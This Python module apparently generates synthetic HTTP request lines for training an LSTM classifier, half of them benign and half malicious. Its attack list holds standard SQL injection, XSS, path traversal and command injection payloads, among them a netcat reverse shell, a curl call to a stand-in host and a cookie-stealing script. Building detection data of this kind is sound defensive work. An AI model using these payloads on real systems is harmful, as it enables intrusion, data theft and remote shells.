"""A synthetic web-traffic dataset: HTTP request lines labelled benign (0) or
malicious (1), for the web-traffic-style LSTM classifier.

The tutorial's logs have no public copy, so lines are generated from a seed.
Benign ones are a small site's pages, API calls, static files and searches
(with quotes, ampersands and percent-encoding, so those alone give nothing
away); malicious ones, half the lines, carry SQL injection, XSS, path
traversal or command injection in a path segment or parameter::

    GET /api/v1/products?page=3&sort=price HTTP/1.1                       -> 0
    GET /search?q=rock+%26+roll HTTP/1.1                                  -> 0
    POST /login?user=admin%27+OR+%271%27%3D%271&pw=x HTTP/1.1             -> 1
"""
from __future__ import annotations

from typing import List, Tuple

import numpy as np

METHODS = ["GET", "GET", "GET", "POST", "PUT", "DELETE"]
SEGMENTS = ["api", "v1", "v2", "users", "products", "orders", "cart", "blog", "posts", "2019",
            "images", "static", "js", "css", "account", "settings", "help", "news", "search"]
FILES = ["index.html", "app.js", "main.css", "logo.png", "favicon.ico", "about.html"]
KEYS = ["id", "page", "sort", "q", "user", "lang", "ref", "limit", "category", "session"]
WORDS = ["shoes", "red", "price", "o'neil", "rock & roll", "summer sale", "tv", "100%",
         "news", "jazz", "c++", "a+b", "caf\u00e9", "2020-01-31", "en", "desc", "asc"]
ATTACKS = [
    "' OR '1'='1", "1' OR 1=1 --", "1; DROP TABLE users --", "' UNION SELECT username, "
    "password FROM users --", "admin' --", "1 AND SLEEP(5)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert('x')", "<svg onload=fetch('//evil.example')>",
    "../../../../etc/passwd", "..%2F..%2F..%2Fwindows%2Fwin.ini", "/etc/shadow%00",
    "; cat /etc/passwd", "| nc 10.0.0.1 4444 -e /bin/sh", "$(curl http://evil.example/x)",
    "`id`",
]
_ENCODE = {" ": "+", "'": "%27", "<": "%3C", ">": "%3E", "&": "%26", "=": "%3D", ";": "%3B",
           "/": "%2F", "(": "%28", ")": "%29", "%": "%25", "+": "%2B"}


def _encode(text: str, rng: np.random.RandomState) -> str:
    """Percent-encode each special character with probability one half."""
    return "".join(_ENCODE[ch] if ch in _ENCODE and rng.rand() < 0.5 else ch for ch in text)


def _random_case(text: str, rng: np.random.RandomState) -> str:
    if rng.rand() < 0.7:
        return text
    return "".join(ch.upper() if rng.rand() < 0.5 else ch.lower() for ch in text)


def _value(rng: np.random.RandomState) -> str:
    kind = rng.randint(3)
    if kind == 0:
        return str(rng.randint(1, 5000))
    if kind == 1:
        return _encode(WORDS[rng.randint(len(WORDS))], rng)
    return "".join(rng.choice(list("abcdef0123456789"), size=rng.randint(6, 17)))


def request_line(rng: np.random.RandomState, malicious: bool) -> str:
    method = METHODS[rng.randint(len(METHODS))]
    path = [SEGMENTS[i] for i in rng.randint(len(SEGMENTS), size=rng.randint(1, 4))]
    if rng.rand() < 0.3:
        path.append(FILES[rng.randint(len(FILES))])
    keys = [KEYS[i] for i in rng.randint(len(KEYS), size=rng.randint(0, 4))]
    params = [[key, _value(rng)] for key in keys]
    if malicious:
        attack = _encode(_random_case(ATTACKS[rng.randint(len(ATTACKS))], rng), rng)
        if params and rng.rand() < 0.8:
            params[rng.randint(len(params))][1] = attack
        else:
            path.insert(rng.randint(len(path) + 1), attack)
    query = "&".join(f"{k}={v}" for k, v in params)
    return f"{method} /{'/'.join(path)}{'?' + query if query else ''} HTTP/1.1"


def generate(count: int, seed: int) -> Tuple[List[str], List[int]]:
    """``count`` request lines and their labels (1 = malicious), half of each."""
    rng = np.random.RandomState(seed)
    labels = [int(i % 2) for i in range(count)]
    rng.shuffle(labels)
    return [request_line(rng, bool(label)) for label in labels], labels
